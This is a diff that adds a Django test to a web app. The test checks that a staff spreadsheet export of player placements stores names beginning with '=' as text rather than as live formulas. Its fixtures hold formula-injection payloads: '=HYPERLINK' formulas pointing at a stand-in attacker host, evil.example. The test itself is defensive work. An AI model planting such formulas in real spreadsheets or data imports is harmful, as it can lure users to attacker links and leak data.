@@ -122,3 +122,20 @@ def test_embed_code_escapes_the_category_name(client, tree):
     # The textarea shows the snippet as text: escaped once more, so a browser displays the escaped snippet.
     shown = "title=&quot;소프트 &amp;quot;웨어&amp;quot; &amp;lt;b&amp;gt;&amp;amp;&quot;&gt;&lt;/iframe&gt;</textarea>"
     assert shown in response.content.decode()
+
+
+@pytest.mark.django_db
+def test_placements_xlsx_writes_formula_like_names_as_text(client, staff_user, tree):
+    """A player named in an imported landscape.yml, or a node renamed by a subcommittee member, starting
+    with `=` must not become a live formula in the staff workbook."""
+    attack = '=HYPERLINK("http://evil.example/?leak","Click me")'
+    tree["xr"].name = '=HYPERLINK("http://evil.example/?sub","node")'
+    tree["xr"].save(update_fields=["name"])
+    PlacementFactory(player=PlayerFactory(name=attack), primary=tree["xr"], status=Placement.Status.CONFIRMED)
+    client.force_login(staff_user)
+
+    content = client.get(reverse("ecosystem:placements_xlsx", args=[2026])).content
+
+    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert attack in [cell.value for cell in cells]
